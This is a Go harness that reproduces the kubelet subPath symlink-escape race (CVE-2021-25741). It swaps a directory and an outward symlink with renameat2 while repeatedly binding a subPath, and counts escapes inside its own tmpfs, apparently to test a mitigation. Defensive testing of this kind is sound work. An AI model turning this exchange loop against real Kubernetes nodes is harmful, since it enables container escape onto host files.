// Copyright The Holdfast Authors.
// SPDX-License-Identifier: Apache-2.0

// Subpathrace binds a subPath with the kubelet's own code, of the tree that it is built
// with, again and again, while a thread exchanges the subPath's parent directory for a
// symlink that leads out of the volume (CVE-2021-25741). It mounts a file system of its own
// at --dir, works below it only, and writes one JSON object at the end:
//
//	{"tries":900,"mounted":120,"escaped":17,"refused":780,"exchanged":45,"seconds":1.2,…}
//
// mounted are the binds that the code answered with success, escaped those of them that
// show the directory outside of the volume, refused the errors, by their text in "errors".
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"time"
	"unsafe"

	"github.com/prometheus/client_golang/prometheus"
	"golang.org/x/sys/unix"
	utilfeature "k8s.io/apiserver/pkg/util/feature"
	"k8s.io/kubernetes/pkg/util/mount"
	"k8s.io/kubernetes/pkg/version"
)

// exchange swaps two paths by renameat2(2), which the x/sys of the base does not have.
func exchange(a, b string) error {
	const atFDCWD, renameExchange = -100, 2
	at := atFDCWD
	pa, err := unix.BytePtrFromString(a)
	if err != nil {
		return err
	}
	pb, err := unix.BytePtrFromString(b)
	if err != nil {
		return err
	}
	if _, _, e := unix.Syscall6(unix.SYS_RENAMEAT2, uintptr(at), uintptr(unsafe.Pointer(pa)), uintptr(at), uintptr(unsafe.Pointer(pb)), renameExchange, 0); e != 0 {
		return fmt.Errorf("exchanging %s and %s: %v", a, b, e)
	}
	return nil
}

// rollbackGate is the gate of subpath-rollback, whose check of what was mounted would
// hide what is looked for.
const rollbackGate = "SubpathUnbindAfterStart"

type result struct {
	Tries     int   `json:"tries"`
	Mounted   int   `json:"mounted"`
	Escaped   int   `json:"escaped"`
	Refused   int   `json:"refused"`
	Exchanged int64 `json:"exchanged"`
	// Counted is holdfast_subpath_symlink_race_exchanged_total; 0 in stock.
	Counted float64        `json:"counted"`
	Seconds float64        `json:"seconds"`
	Errors  map[string]int `json:"errors"`
}

func main() {
	dir := flag.String("dir", "", "empty directory to mount a file system at")
	least := flag.Int("mounted", 50, "how many binds must have been made")
	escapes := flag.Int("escaped", 0, "end early after so many escapes and -mounted binds; 0: do not end early")
	tries := flag.Int("tries", 10000, "tries at most")
	bound := flag.Duration("time", 20*time.Second, "time at most")
	most := flag.Duration("most", 0, "time at most while fewer than -mounted binds were made, on a busy machine; 0: -time")
	still := flag.Bool("still", false, "exchange nothing: how long a bind takes")
	alone := flag.Bool("alone", false, "switch off "+rollbackGate)
	gates := flag.String("feature-gates", "", "as the kubelet's")
	showVersion := flag.Bool("version", false, "print the release of the kubelet's code that is linked and end")
	flag.Parse()
	if *showVersion {
		fmt.Println("Kubernetes", version.Get().GitVersion)
		return
	}
	if *dir == "" {
		fmt.Fprintln(os.Stderr, "subpathrace: --dir is missing")
		os.Exit(2)
	}
	if err := utilfeature.DefaultFeatureGate.Set(*gates); err != nil {
		fmt.Fprintf(os.Stderr, "subpathrace: --feature-gates %q: %v\n", *gates, err)
		os.Exit(2)
	}
	// Stock does not know the gate.
	if known := strings.Join(utilfeature.DefaultFeatureGate.KnownFeatures(), " "); *alone && strings.Contains(known, rollbackGate+"=") {
		if err := utilfeature.DefaultFeatureGate.Set(rollbackGate + "=false"); err != nil {
			panic(err)
		}
	}
	r, err := run(*dir, *least, *escapes, *tries, *bound, max(*bound, *most), *still)
	if err == nil {
		err = json.NewEncoder(os.Stdout).Encode(r)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "subpathrace: %v\n", err)
		os.Exit(1)
	}
}

func run(dir string, least, escapes, tries int, bound, most time.Duration, still bool) (r result, err error) {
	if err := unix.Mount("subpathrace", dir, "tmpfs", 0, "size=1m"); err != nil {
		return r, fmt.Errorf("mounting a file system at %s: %v", dir, err)
	}
	defer func() {
		if e := unix.Unmount(dir, unix.MNT_DETACH); e != nil && err == nil {
			err = e
		}
	}()
	// volume/parent/sub is the subPath. volume/link leads to outside, which has a sub too.
	volume, outside := filepath.Join(dir, "volume"), filepath.Join(dir, "outside")
	for path, text := range map[string]string{filepath.Join(volume, "parent", "sub"): "inside", filepath.Join(outside, "sub"): "outside"} {
		if err := os.MkdirAll(path, 0755); err != nil {
			return r, err
		}
		if err := os.WriteFile(filepath.Join(path, "where"), []byte(text), 0644); err != nil {
			return r, err
		}
	}
	parent, link := filepath.Join(volume, "parent"), filepath.Join(volume, "link")
	if err := os.Symlink(outside, link); err != nil {
		return r, err
	}
	var stop atomic.Bool
	var exchanged atomic.Int64
	done := make(chan error, 1)
	go func() {
		runtime.LockOSThread()
		for !still && !stop.Load() {
			if err := exchange(parent, link); err != nil {
				done <- err
				return
			}
			// The pauses walk through all lengths, so that some fit the kubelet's steps.
			n := exchanged.Add(1)
			time.Sleep(time.Duration(n%97) * 20 * time.Microsecond)
		}
		done <- nil
	}()

	mounter := mount.New("")
	pod := filepath.Join(dir, "pod")
	sub := mount.Subpath{VolumeMountIndex: 0, Path: filepath.Join(parent, "sub"), VolumeName: "vol", VolumePath: volume, PodDir: pod, ContainerName: "main"}
	r.Errors = map[string]int{}
	begin := time.Now()
	for r.Tries < tries && (time.Since(begin) < bound || r.Mounted < least && time.Since(begin) < most) && (escapes == 0 || r.Escaped < escapes || r.Mounted < least) {
		r.Tries++
		target, _, err := mounter.PrepareSafeSubpath(sub)
		if err != nil {
			r.Refused++
			r.Errors[short(err)]++
			continue
		}
		r.Mounted++
		b, err := os.ReadFile(filepath.Join(target, "where"))
		if err != nil {
			return r, err
		}
		if string(b) == "outside" {
			r.Escaped++
		}
		if err := mounter.CleanSubPaths(pod, "vol"); err != nil {
			return r, err
		}
	}
	r.Seconds = time.Since(begin).Seconds()
	stop.Store(true)
	r.Exchanged = exchanged.Load()
	if err := <-done; err != nil {
		return r, err
	}
	metrics, err := prometheus.DefaultGatherer.Gather()
	for _, m := range metrics {
		if m.GetName() == "holdfast_subpath_symlink_race_exchanged_total" {
			r.Counted = m.Metric[0].GetCounter().GetValue()
		}
	}
	return r, err
}

// short is an error's beginning, the same for all of its kind.
func short(err error) string {
	text, _, _ := strings.Cut(err.Error(), "/")
	if strings.Contains(err.Error(), "the path was changed meanwhile") {
		return "the path was changed meanwhile"
	}
	return strings.TrimSpace(text)
}
